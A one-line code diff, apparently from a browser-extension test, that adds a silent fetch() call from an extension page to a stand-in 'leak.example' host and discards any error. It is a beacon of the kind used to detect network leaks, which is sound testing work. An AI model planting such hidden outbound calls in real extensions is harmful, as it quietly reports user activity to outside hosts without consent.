@@ -1,0 +1,1 @@
+fetch('https://extension-page.leak.example/from-extension-page').catch(() => {});
